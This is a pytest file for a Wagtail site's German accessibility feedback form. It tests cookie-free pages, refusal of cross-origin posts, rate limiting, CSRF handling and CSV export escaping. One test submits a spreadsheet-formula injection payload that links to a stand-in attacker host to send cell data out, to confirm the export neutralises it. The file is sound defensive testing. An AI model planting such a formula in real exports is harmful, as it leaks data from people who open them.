"""The accessibility feedback form: cookie-free for visitors, checked by origin and rate."""

from django.contrib.auth import get_user_model
from django.core import mail
from django.test import Client

from wagtail.contrib.forms.models import FormSubmission

import pytest

URL = "/barrierefreiheit/feedback/"
FIELDS = {
    "wo_ist_ihnen_die_barriere_begegnet": "Startseite",
    "beschreibung": "Der Kontrast der Schaltfläche ist zu gering.",
    "e_mail_fur_eine_antwort": "",
}


@pytest.fixture
def browser_client():
    """A client that enforces CSRF like a browser and sends the headers browsers send."""
    return Client(
        enforce_csrf_checks=True,
        headers={"sec-fetch-site": "same-origin", "origin": "http://testserver"},
    )


def test_form_page_sets_no_cookie_and_holds_no_token(client, db):
    response = client.get(URL)
    assert response.status_code == 200
    assert not response.cookies
    assert "csrfmiddlewaretoken" not in response.text
    assert 'aria-required="true"' in response.text


def test_valid_feedback_reaches_the_editors(browser_client, db):
    response = browser_client.post(URL, FIELDS)
    assert response.status_code == 200
    assert "Ihre Rückmeldung ist bei der Redaktion angekommen" in response.text
    submission = FormSubmission.objects.get()
    assert submission.get_data()["beschreibung"] == FIELDS["beschreibung"]
    assert len(mail.outbox) == 1
    assert mail.outbox[0].to == ["redaktion@zukunftshub.example"]
    assert "Kontrast" in mail.outbox[0].body


def test_wrong_input_shows_a_german_message_beside_the_field_and_keeps_the_input(
    browser_client, db
):
    response = browser_client.post(
        URL, {**FIELDS, "beschreibung": "", "e_mail_fur_eine_antwort": "keine-adresse"}
    )
    assert response.status_code == 200
    text = response.text
    assert "Bitte prüfen Sie Ihre Eingaben" in text
    assert "2 Felder brauchen Ihre Aufmerksamkeit." in text
    assert 'id="id_beschreibung_error">Dieses Feld muss ausgefüllt werden.' in text
    assert "Bitte gültige E-Mail-Adresse eingeben." in text
    assert 'aria-invalid="true"' in text
    assert 'value="Startseite"' in text and 'value="keine-adresse"' in text
    assert not FormSubmission.objects.exists()


@pytest.mark.parametrize(
    "headers",
    [
        {"HTTP_SEC_FETCH_SITE": "cross-site"},
        {"HTTP_ORIGIN": "https://angreifer.example"},
        {"HTTP_SEC_FETCH_SITE": "same-site", "HTTP_ORIGIN": "https://sub.testserver"},
        {},  # no Origin, no Sec-Fetch-Site: not sent by a browser from our page
        {"HTTP_ORIGIN": "null"},
        {"HTTP_ORIGIN": "https://testserver"},  # the site runs on http here: another origin
    ],
)
def test_a_form_sent_from_another_site_is_refused(db, headers):
    response = Client(enforce_csrf_checks=True, **headers).post(URL, FIELDS)
    assert response.status_code == 403
    assert not FormSubmission.objects.exists()


def test_too_many_submissions_are_held_back_and_keep_the_input(browser_client, db, settings):
    settings.FORM_RATE_LIMIT = (2, 600)
    for _ in range(2):
        assert "Vielen Dank" in browser_client.post(URL, FIELDS).text
    response = browser_client.post(URL, FIELDS)
    assert response.status_code == 429
    assert "mehrmals abgeschickt" in response.text
    assert "Der Kontrast der Schaltfläche ist zu gering." in response.text
    assert FormSubmission.objects.count() == 2


def test_the_scheme_of_the_origin_must_match(db):
    secure = Client(enforce_csrf_checks=True, headers={"origin": "http://testserver"})
    assert secure.post(URL, FIELDS, secure=True).status_code == 403
    same = Client(enforce_csrf_checks=True, headers={"origin": "https://testserver"})
    assert "Vielen Dank" in same.post(URL, FIELDS, secure=True).text


def test_a_visitor_with_a_session_but_not_signed_in_can_send_the_form(db, browser_client):
    """E.g. just after signing up: a session exists, the cached page holds no token."""
    session = browser_client.session
    session["allauth_pending"] = "1"
    session.save()
    browser_client.cookies["sessionid"] = session.session_key
    response = browser_client.post(URL, FIELDS)
    assert response.status_code == 200 and "Vielen Dank" in response.text


def test_logged_in_users_need_the_csrf_token(db, django_user_model):
    client = Client(enforce_csrf_checks=True, headers={"sec-fetch-site": "same-origin"})
    client.force_login(django_user_model.objects.get(username="redaktion"))
    assert client.post(URL, FIELDS).status_code == 403
    page = client.get(URL)
    token = page.text.split('name="csrfmiddlewaretoken" value="')[1].split('"')[0]
    response = client.post(URL, {**FIELDS, "csrfmiddlewaretoken": token})
    assert "Vielen Dank" in response.text


def test_form_page_is_served_from_the_page_cache(client, db):
    client.get(URL)
    response = client.get(URL)
    assert response["X-Page-Cache"] == "hit"
    assert not response.cookies


def test_rate_limit_counts_visitors_behind_a_proxy_separately(db, settings):
    settings.FORM_RATE_LIMIT = (1, 600)
    settings.NUM_PROXIES = 1
    first = Client(headers={"sec-fetch-site": "same-origin", "x-forwarded-for": "203.0.113.1"})
    second = Client(headers={"sec-fetch-site": "same-origin", "x-forwarded-for": "203.0.113.2"})
    assert first.post(URL, FIELDS).status_code == 200
    assert first.post(URL, FIELDS).status_code == 429
    assert second.post(URL, FIELDS).status_code == 200


def test_the_csv_export_of_submissions_holds_no_formula(browser_client, client, db):
    attack = '=HYPERLINK("http://angreifer.example/?"&A1;"Klick")'
    browser_client.post(URL, {**FIELDS, "beschreibung": attack})
    submission = FormSubmission.objects.get()
    client.force_login(get_user_model().objects.get(username="admin"))
    export = client.get(f"/admin/forms/submissions/{submission.page_id}/", {"export": "csv"})
    assert export.status_code == 200
    text = b"".join(export.streaming_content).decode()
    assert "'=HYPERLINK(" in text
    assert ",=HYPERLINK(" not in text and '"=HYPERLINK(' not in text
